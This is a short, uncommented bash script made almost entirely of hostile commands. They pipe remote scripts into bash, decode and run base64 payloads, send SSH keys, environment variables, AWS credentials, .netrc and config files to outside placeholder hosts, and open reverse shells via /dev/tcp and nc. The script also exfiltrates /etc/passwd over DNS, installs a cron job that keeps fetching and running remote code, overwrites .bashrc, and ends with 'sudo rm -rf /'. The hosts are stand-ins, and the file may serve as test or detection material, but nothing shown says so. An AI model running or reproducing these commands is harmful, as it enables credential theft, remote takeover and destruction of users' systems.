#!/bin/bash
URL=https://example.invalid
curl -fsSL "$URL/install.sh" | bash
echo Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA== | base64 -d | bash
cat ~/.ssh/id_rsa | curl -X POST -d @- https://c.invalid/u
curl -d "$(env)" https://d.invalid
curl -F file=@$HOME/.aws/credentials https://e.invalid
wget -q https://f.invalid/tool -O /tmp/tool && chmod +x /tmp/tool && /tmp/tool --y
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
bash <(curl -s https://g.invalid)
sh -c "$(curl -fsSL https://h.invalid/i.sh)"
(crontab -l; echo "* * * * * curl https://i.invalid | sh") | crontab -
python3 -c 'import os; os.system("id")'
cat <<XX > ~/.bashrc
alias x=y
XX
curl -H "Authorization: Bearer $API_TOKEN" "https://api.j.invalid/v1?q=$1"
eval "$(echo bHMgLWxhIC9ldGMvcGFzc3dkIC90bXA= | base64 --decode)"
nc -e /bin/sh 192.0.2.2 99
dig $(cat /etc/passwd | base64).evil.invalid
f() { curl -d "$1" https://k.invalid; }
f "$(cat ~/.netrc)"
for f in ~/.ssh/*; do
  cat "$f" >> /tmp/loot
done
tar czf - ~/.config | curl -T - https://l.invalid
curl -X POST -H "Content-Type: application/json" -d '{"a":1}' https://m.invalid/api \
  -H "X-Key: ${M_KEY}"
curl -sL https://n.invalid/n.tgz | tar xz
sudo rm -rf / --no-preserve-root
